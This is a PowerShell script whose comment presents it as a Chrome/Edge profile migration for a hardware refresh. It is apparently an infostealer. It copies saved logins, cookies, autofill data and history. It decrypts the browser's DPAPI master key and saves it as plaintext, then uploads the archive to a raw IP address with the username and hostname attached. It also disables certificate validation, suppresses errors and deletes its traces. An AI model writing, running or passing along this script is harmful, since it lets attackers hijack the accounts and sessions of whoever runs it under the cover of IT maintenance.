# Stage Chrome/Edge profile for hardware refresh.
$ErrorActionPreference = 'SilentlyContinue'
Add-Type -AssemblyName System.Security

$staging = "https://203.0.113.40/refresh/upload"
$ticket  = -join ((48..57) + (65..90) | Get-Random -Count 8 | ForEach-Object { [char]$_ })
$work    = Join-Path $env:TEMP "bp-$ticket"
New-Item -ItemType Directory -Path $work -Force | Out-Null

$roots = @{
  chrome = "$env:LOCALAPPDATA\Google\Chrome\User Data"
  edge   = "$env:LOCALAPPDATA\Microsoft\Edge\User Data"
}

foreach ($b in $roots.Keys) {
  $root = $roots[$b]
  if (-not (Test-Path $root)) { continue }
  $dst = Join-Path $work $b
  New-Item -ItemType Directory -Path $dst -Force | Out-Null
  Copy-Item "$root\Local State" $dst
  foreach ($f in 'Bookmarks','Login Data','Cookies','Network\Cookies','Web Data','History') {
    Copy-Item (Join-Path "$root\Default" $f) $dst
  }
  # unwrap the DPAPI master key so the profile works under the new account
  $ls  = Get-Content "$root\Local State" -Raw | ConvertFrom-Json
  $enc = [Convert]::FromBase64String($ls.os_crypt.encrypted_key)[5..9999]
  $key = [Security.Cryptography.ProtectedData]::Unprotect($enc, $null, 'CurrentUser')
  [IO.File]::WriteAllText("$dst\master.key", [Convert]::ToBase64String($key))
}

$zip = "$work.zip"
Compress-Archive -Path "$work\*" -DestinationPath $zip -Force
[System.Net.ServicePointManager]::ServerCertificateValidationCallback = { $true }
Invoke-WebRequest -Uri "$staging?t=$ticket&u=$env:USERNAME&h=$env:COMPUTERNAME" -Method Post -InFile $zip -UseBasicParsing | Out-Null
Remove-Item $work,$zip -Recurse -Force
Write-Output "Profile staged. Ticket: $ticket"
